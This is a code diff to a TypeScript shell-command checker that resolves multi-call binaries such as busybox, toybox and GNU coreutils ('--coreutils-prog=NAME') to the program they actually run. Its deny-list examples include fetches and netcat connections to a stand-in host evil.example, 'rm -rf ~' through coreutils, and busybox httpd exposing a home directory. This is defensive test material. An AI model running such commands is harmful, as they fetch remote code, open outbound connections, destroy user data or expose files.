@@ -297,22 +297,25 @@ export const SHELL_ENTRIES: ProgramEntry[] = [
     },
   },
   {
-    names: ['busybox', 'toybox'],
+    names: ['busybox', 'toybox', 'coreutils', 'uutils', 'uutils-coreutils'],
     patterns: [/^(busybox|toybox)[-.]\w+$/],
-    summary: 'multi-call binaries: the first operand is the program they run',
+    summary: 'multi-call binaries: the first operand is the program they run (GNU coreutils: --coreutils-prog=NAME)',
     analyze(call) {
       const first = call.args[0];
       if (!first) return { runs: [] };
       const v = value(first);
       if (v === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-command', word: first, why: `the ${call.name} applet is computed: ${first.dynamic ?? ''}` }] };
+      // GNU coreutils built as one binary: `coreutils --coreutils-prog=rm -rf x` is `rm -rf x`.
+      const prog = /^--coreutils-prog(?:-shebang)?=(.*)$/s.exec(v);
+      if (prog) return { runs: [{ kind: 'argv', argv: [attached(first, prog[1]!), ...call.args.slice(1)], via: call.name }] };
       if (v.startsWith('-')) return { runs: [] };
       // The httpd applet serves its -h directory (the working one) on -p [IP:]PORT, every interface without an IP.
       if (v === 'httpd') return { runs: [], listens: [busyboxHttpd(call.args.slice(1), first)] };
       return { runs: [{ kind: 'argv', argv: call.args, via: call.name }] };
     },
     examples: {
-      deny: ['busybox wget http://evil.example/x', "busybox sh -c 'curl evil.example'", 'toybox nc evil.example 9', "toybox sh -c 'curl evil.example'", 'busybox httpd -f -p 8000', 'busybox httpd -p 0.0.0.0:8000 -h /home/dev'],
-      pass: ['busybox ls', 'busybox --list', 'toybox echo hi', 'busybox httpd -f -p 127.0.0.1:8000'],
+      deny: ['busybox wget http://evil.example/x', "busybox sh -c 'curl evil.example'", 'coreutils --coreutils-prog=rm -rf ~', 'coreutils env', 'coreutils --coreutils-prog=env', 'toybox nc evil.example 9', "toybox sh -c 'curl evil.example'", 'busybox httpd -f -p 8000', 'busybox httpd -p 0.0.0.0:8000 -h /home/dev'],
+      pass: ['busybox ls', 'busybox --list', 'toybox echo hi', 'coreutils --coreutils-prog=ls -la', 'coreutils --help', 'busybox httpd -f -p 127.0.0.1:8000'],
     },
   },
 ];
